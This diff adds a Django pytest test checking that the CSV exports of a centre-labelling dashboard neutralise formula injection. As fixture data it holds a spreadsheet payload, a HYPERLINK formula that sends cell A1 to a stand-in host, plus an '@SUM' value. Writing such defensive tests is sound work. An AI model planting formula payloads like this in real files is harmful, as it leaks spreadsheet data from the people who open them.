@@ -9,6 +9,7 @@ from django.core.management import call_command
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+from django.utils import timezone
 from pytest_django.asserts import assertContains
 
 from centres.couverture import chiffres_cles, couverture_par_departement, couverture_par_region
@@ -200,3 +201,22 @@ def test_nombre_de_requetes_constant(client, agent_anct, donnees_reference):
     for numero in range(100):
         LabelFactory(centre=CentreFactory(nom=f"Centre {numero}", departements=departements))
     assert compter() == avant
+
+
+def test_un_nom_qui_ressemble_a_une_formule_sort_inerte_de_l_export(client, agent_anct, donnees_reference):
+    """CSV injection: a spreadsheet must show the text, not run it; numbers, negative ones too, stay numbers."""
+    centre = Centre.objects.get(slug="oriv")
+    centre.nom = '=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")'
+    centre.sigle = "@SUM(1+1)"
+    centre.save()
+    Label.objects.filter(centre=centre).update(date_expiration=timezone.localdate() - datetime.timedelta(days=3))
+    client.force_login(agent_anct)
+    lignes = {ligne["sigle"]: ligne for ligne in lire_csv(client.get(reverse("pilotage:export_labels")))}
+    ligne = lignes["'@SUM(1+1)"]
+    assert ligne["centre"] == '\'=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")'
+    assert ligne["jours_restants"] == "-3"
+    couverture = {
+        ligne["code_departement"]: ligne for ligne in lire_csv(client.get(reverse("pilotage:export_couverture")))
+    }
+    assert couverture["67"]["centres"] == ligne["centre"]
+    assert couverture["67"]["qpv"] == "24"
